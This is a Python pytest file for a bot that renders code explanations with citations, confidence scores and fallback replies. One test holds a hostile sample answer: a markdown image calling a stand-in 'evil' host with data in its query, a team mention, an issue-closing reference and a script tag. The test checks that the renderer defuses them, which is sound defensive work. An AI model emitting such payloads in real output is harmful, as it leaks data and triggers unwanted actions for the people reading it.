"""An explanation is said with its places and its doubts, and nothing in it can act."""

from dataclasses import replace

import pytest

from yantra_bot.domain.explanations import Citation, Explanation
from yantra_bot.domain.proof import Factor
from yantra_bot.replies.explain import answer, no_answer

FOUND = Explanation(
    "It returns `None` for an empty text [1].",
    ((1, Citation("a.py", 3, "        return None")),),
    unknown="Why it does.",
    confidence=0.93,
    missing=1,
)


def test_an_answer_names_its_places() -> None:
    """The text, each place with its line, what is not known and how sure it is."""
    said = answer(FOUND, commit="0123456789abcdef")
    assert "[1] `a.py:3` `return None`" in said
    assert "What the code does not tell: Why it does." in said
    assert "confidence 0.93, very high. 1 more places that it named are not there." in said
    assert "`0123456789ab`" in said


def test_a_confidence_is_shown_with_its_parts() -> None:
    """Folded away where it is good, open and with a warning where it is low; what was left out is said."""
    factors = (Factor("grounding", 0.3, 1.0, "all there"), Factor("coherence", 0.3, None, "no name"))
    good = answer(replace(FOUND, factors=factors), commit="0" * 40)
    assert "<details><summary>Confidence 0.93</summary>" in good
    assert "| grounding | 0.3 | 1.00 | all there |" in good
    assert "| coherence | 0.3 | left out | no name |" in good
    low = answer(replace(FOUND, factors=factors, confidence=0.42), commit="0" * 40)
    assert "<details open>" in low
    assert "confidence 0.42, low" in low
    assert "too low to rely on" in low


@pytest.mark.case("C12")
def test_what_a_model_says_cannot_act() -> None:
    """Images, links, mentions and references in an answer are defused."""
    hostile = Explanation("![x](http://evil/?d=1) @octo/team Fixes #1 <script>", FOUND.citations)
    said = answer(hostile, commit="0" * 40)
    assert "![x]" not in said
    assert "http://" not in said
    assert "@octo" not in said
    assert "#1" not in said
    assert "<script>" not in said


def test_no_answer_says_why_and_what_a_search_finds() -> None:
    """Where nothing is proven, the reason is told, and what a search finds is shown."""
    said = no_answer("the budget is spent", "a.py:1 scan", handle="yantra")
    assert "the budget is spent" in said
    assert "a.py:1 scan" in said
    assert "What a search" not in no_answer("it is", "", handle="yantra")
